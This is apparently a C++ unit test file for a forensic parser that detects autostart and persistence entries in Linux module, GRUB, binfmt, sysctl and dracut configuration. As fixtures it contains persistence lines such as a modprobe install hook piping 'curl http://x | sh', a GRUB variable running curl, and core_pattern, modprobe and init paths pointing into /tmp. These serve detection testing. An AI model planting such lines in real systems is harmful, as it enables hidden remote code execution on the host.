#include "support/collecting_context.hpp"
#include "support/samples.hpp"
#include "traces/linux_kernel_config/parser.hpp"
#include <gtest/gtest.h>

namespace konseki::linux_kernel_config {

namespace {

void parse_all(std::string_view content, std::string_view name, test::CollectingContext& collected)
{
    EXPECT_EQ(parser.sniff(as_bytes(content), name), Sniff::sure) << name;
    parser.parse({ as_bytes(content), { 0, content.size() }, name }, collected.context);
}

std::string sample(std::string_view name)
{
    return test::read_file(
        std::string(KONSEKI_SOURCE_DIR) + "/src/traces/linux_kernel_config/testdata/" + std::string(name));
}

// "name|schedule|command|detail"
std::vector<std::string> starts(test::CollectingContext const& collected)
{
    std::vector<std::string> texts;
    for (auto row : collected.rows("linux.autostart"))
        texts.push_back(format("{}|{}|{}|{}", row["name"], row["schedule"], row["command"], row["detail"]));
    return texts;
}

using List = std::vector<std::string>;

}

// covers: L22
TEST(LinuxKernelConfig, ModulesTheirInstallLinesAndSoftDependencies)
{
    test::CollectingContext collected;
    parse_all(sample("modprobe.conf"), "/etc/modprobe.d/x.conf", collected);
    parse_all("# c\nevil a=1\n", "/etc/modules-load.d/x.conf", collected);
    EXPECT_EQ(starts(collected),
        (List { "usb_x|install|/sbin/modprobe --ignore-install usb_x;    curl http://x | sh|does: fetches "
                "pipes_to_interpreter loads_module",
            "ext4|softdep pre|crc32c|", "ext4|softdep pre|evil|", "ext4|softdep post|after|", "evil|boot|evil|a=1" }));
    auto const settings = collected.rows("linux.setting");
    ASSERT_EQ(settings.size(), 3U);
    EXPECT_EQ(settings[0].at("name"), "blacklist pcspkr");
    EXPECT_EQ(collected.diagnostics.list.size(), 1U);
}

// covers: L25
TEST(LinuxKernelConfig, KernelParametersThatStartSomething)
{
    test::CollectingContext collected;
    parse_all(sample("grub.cfg"), "/boot/grub/grub.cfg", collected);
    parse_all(
        "GRUB_CMDLINE_LINUX=\"quiet systemd.run=/tmp/x\"\nGRUB_X=$(curl http://x)\n", "/etc/default/grub", collected);
    parse_all("title A\noptions root=/dev/x rdinit=/x\n", "/boot/loader/entries/a.conf", collected);
    EXPECT_EQ(starts(collected),
        (List { "Debian GNU/Linux|kernel parameter|/lib/.x/init|init=/lib/.x/init",
            "grub|kernel parameter|/tmp/x|systemd.run=/tmp/x",
            "grub|the boot files are made anew|GRUB_X=$(curl http://x)|does: fetches",
            "A|kernel parameter|/x|rdinit=/x" }));
    auto const settings = collected.rows("linux.setting");
    ASSERT_EQ(settings.size(), 7U);
    EXPECT_EQ(settings[1].at("section"), "Debian GNU/Linux");
    EXPECT_EQ(settings[1].at("name"), "linux");
    EXPECT_EQ(settings[1].at("location"), "L25");
}

// covers: L24 L38
TEST(LinuxKernelConfig, BinaryFormatsSysctlsAndTheInitramfs)
{
    test::CollectingContext collected;
    parse_all(":x:M::\\x7fELF::/tmp/i:OC\n:short\n", "/etc/binfmt.d/x.conf", collected);
    parse_all(
        "python3.11\nmagic\n0\n\\xa7\\x0d\n\n/usr/bin/python3.11\n\nyes\n", "/var/lib/binfmts/python3.11", collected);
    parse_all("package p\ninterpreter /usr/bin/p\nmagic \\x01\n", "/usr/share/binfmts/p", collected);
    parse_all("kernel.core_pattern=|/tmp/x %p\nkernel/modprobe = /tmp/m\nvm.swappiness=1\n-x\n", "/etc/sysctl.d/x.conf",
        collected);
    parse_all("install_items+=\" /x \"\n", "/etc/dracut.conf.d/x.conf", collected);
    EXPECT_EQ(starts(collected),
        (List { "x|a file of the format is run|/tmp/i|type=M magic=\\x7fELF flags=OC",
            "python3.11|a file of the format is run|/usr/bin/python3.11|magic=\\xa7\\x0d credentials=yes",
            "p|a file of the format is run|/usr/bin/p|magic=\\x01",
            "kernel.core_pattern|a program crashes|/tmp/x %p|does: runs_from_temporary",
            "kernel.modprobe|the kernel asks|/tmp/m|does: runs_from_temporary" }));
    EXPECT_EQ(collected.rows("linux.setting").back().at("location"), "L24");
    EXPECT_EQ(collected.rows("linux.setting").back().at("name"), "install_items");
}

TEST(LinuxKernelConfig, EveryPrefixIsReadWithoutHarm)
{
    for (auto const& [file, name] :
        { std::pair { "modprobe.conf", "/etc/modprobe.d/x.conf" }, { "grub.cfg", "/boot/grub/grub.cfg" } }) {
        auto const content = sample(file);
        for (std::size_t size = 0; size < content.size(); ++size) {
            test::CollectingContext collected;
            parse_all(std::string_view(content).substr(0, size), name, collected);
            EXPECT_LE(collected.rows("linux.autostart").size(), 5U);
        }
    }
}

}
